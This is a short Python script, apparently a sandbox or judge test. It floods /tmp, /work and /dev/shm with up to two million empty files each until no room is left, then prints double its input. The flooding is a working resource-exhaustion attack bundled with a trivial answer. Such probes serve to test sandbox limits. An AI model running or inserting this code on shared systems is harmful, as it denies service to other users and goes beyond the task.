# Files until there is no room for another name.
import os
for place in ["/tmp", "/work", "/dev/shm"]:
    try:
        os.mkdir(f"{place}/many")
        for number in range(2_000_000):
            os.close(os.open(f"{place}/many/{number}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
print(2 * int(input()))
